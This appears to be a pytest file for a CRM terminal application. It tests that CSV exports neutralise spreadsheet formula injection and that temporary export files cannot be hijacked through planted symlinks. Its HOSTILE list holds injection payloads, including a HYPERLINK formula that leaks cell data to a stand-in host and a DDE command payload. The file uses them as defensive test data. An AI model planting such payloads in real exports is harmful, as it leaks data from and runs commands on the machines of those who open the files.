"""Issue 14, items 2 and 8: nothing a spreadsheet would run leaves in an export, and an
export's temporary file cannot be planted beforehand."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import subprocess
import sys

import pytest

from crm_tui.domain import exporters
from crm_tui.domain.spreadsheet import safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"tıkla")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-",
    "@",
]
NUMBERS = ["-3", "-12.5", "-1.250,75", "-1,250.75", "+3", "12", "1.250,75"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_kept_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", NUMBERS + ["Ayşe", "(0532) 123 45 67", "", "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert safe_cell(text) == text


def test_non_text_values_pass_through():
    from datetime import date
    from decimal import Decimal

    for value in (None, 3, Decimal("-1.5"), date(2026, 11, 22)):
        assert safe_cell(value) == value


def test_cli_export_of_hostile_imported_names_keeps_them_text(tmp_path):
    """Names, companies and notes as an attacker would put them in a CSV to import, then
    exported by the shop and opened in Excel."""
    src = tmp_path / "kotu.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Ad Soyad", "Firma", "Notlar"])
        for i, text in enumerate(HOSTILE):
            writer.writerow([f"{text} Müşteri {i}" if i % 2 else text, text, text])
    env = dict(os.environ, CRM_TUI_DATA_DIR=str(tmp_path / "data"))
    db = str(tmp_path / "a.sqlite3")
    run = [sys.executable, "-m", "crm_tui", "--db", db, "--lang", "en"]
    done = subprocess.run(
        [*run, "import", str(src), "--yes", "--accept-errors"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    for delimiter in (",", ";"):
        out = tmp_path / f"out{delimiter == ';'}.csv"
        done = subprocess.run(
            [*run, "export", "--format", "csv", "--out", str(out), "--delimiter", delimiter],
            capture_output=True,
            text=True,
            env=env,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr
        text = out.read_bytes().decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert all(re.fullmatch(r"[+-]?[\d.,]+", c) for c in live), live  # numbers only
        assert sum(c.startswith("'") for c in cells) >= len(HOSTILE)


def test_export_never_writes_through_a_planted_symlink(tmp_path, monkeypatch):
    """The old temporary name was ``.NAME.tmpPID``: a symlink planted there sent the
    export into any file the user can write. Now the name is random and created
    exclusively; planted links at any guessable name are left alone."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "out.csv"
    monkeypatch.setattr(os, "getpid", lambda: 4242)
    for name in (".out.csv.tmp4242", ".out.csv.tmp", "out.csv.tmp"):
        (tmp_path / name).symlink_to(victim)
    exporters.write_private(out, b"a,b\r\n")
    assert victim.read_text() == "precious"
    assert out.read_bytes() == b"a,b\r\n"
    assert not out.is_symlink()
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    leftovers = {p.name for p in tmp_path.iterdir()} - {
        "victim.txt",
        "out.csv",
        ".out.csv.tmp4242",
        ".out.csv.tmp",
        "out.csv.tmp",
    }
    assert not leftovers  # no temporary file left behind


def test_a_failed_export_leaves_no_temporary_file(tmp_path, monkeypatch):
    out = tmp_path / "out.csv"

    def full_disk(fd, data):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "write", full_disk)
    with pytest.raises(exporters.ExportError):
        exporters.write_private(out, b"x" * 10)
    assert list(tmp_path.iterdir()) == []


MORE_PREFIXES = ["=-1", "+A1", "-A1", "@A1", "\n=1+1", "\t@SUM(1)", "\r+1+1", " =1+1"]


@pytest.mark.parametrize("what", exporters.WHATS)
def test_every_csv_export_keeps_hostile_text_as_text(db_path, tmp_path, what):
    """Every text a user or an imported file can put in a record, in every CSV export
    (customers, policies, reminders, complaints), with both delimiters."""
    from datetime import date, datetime

    from crm_tui.db.models import Complaint, Customer, Policy, Reminder

    texts = HOSTILE + MORE_PREFIXES
    for i, text in enumerate(texts):
        customer = Customer.create(name=text, company=text, notes=text, city=text)
        Policy.create(
            customer=customer,
            line="kasko",
            provider=text,
            number=f"{text}{i}",
            plate=text,
            start_date=date(2026, 1, 1),
            end_date=date(2027, 1, 1),
            notes=text,
        )
        Complaint.create(customer=customer, subject=text, description=text, owner=text)
        Reminder.create(customer=customer, title=text, notes=text, due_at=datetime(2026, 12, 1, 9))
    for delimiter in (",", ";"):
        out = tmp_path / f"{what}{delimiter == ';'}.csv"
        assert exporters.export("csv", what, out, delimiter=delimiter) == len(texts)
        text = out.read_bytes().decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
        assert all(re.fullmatch(r"[+-]?[\d.,]+", c) for c in live), live
        assert any(c.startswith("'") for c in cells)


def test_a_tab_stripped_at_import_never_leaves_a_live_formula(tmp_path):
    """The importer trims a cell ("\\t=1+1" becomes "=1+1"): what it keeps is safe in
    every later export, whatever was trimmed off."""
    from crm_tui.domain import importers

    src = tmp_path / "liste.csv"
    names = ["\t=1+1", "\r=1+1", " \t+1+1", "\t\t@SUM(1)", "\t-2+3"]
    with src.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Ad Soyad", "Cep Telefonu"])
        for i, name in enumerate(names):
            writer.writerow([name, f"0532 123 45 {i:02d}"])
    from crm_tui.db import close_database, open_database

    open_database(tmp_path / "a.sqlite3")
    try:
        plan = importers.plan_import(importers.read_file(src))
        importers.run_import(plan, accept_errors=True)
        out = tmp_path / "out.csv"
        exporters.export("csv", "customers", out)
    finally:
        close_database()
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    exported = [row[1] for row in rows[1:]]
    assert len(exported) == len(names)
    assert all(name.startswith("'") for name in exported), exported
